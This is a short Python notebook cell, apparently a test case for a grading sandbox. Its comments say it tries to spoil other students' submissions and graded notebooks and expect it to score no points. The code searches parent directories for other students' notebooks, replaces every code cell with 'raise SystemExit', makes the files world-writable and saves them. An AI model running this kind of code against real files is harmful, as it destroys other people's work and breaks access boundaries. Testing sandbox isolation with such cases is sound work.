# tries: to spoil the submissions and the graded notebooks of the others
# must: no point; graded
# %% cell after setup
import glob
import json
import os

for depth in range(1, 8):
    for path in glob.glob("../" * depth + "*/student0[13]/*/*.ipynb"):
        try:
            notebook = json.load(open(path))
            for cell in notebook["cells"]:
                if cell["cell_type"] == "code":
                    cell["source"] = "raise SystemExit"
            os.chmod(path, 0o666)
            json.dump(notebook, open(path, "w"))
        except OSError as fault:
            print(path, fault)
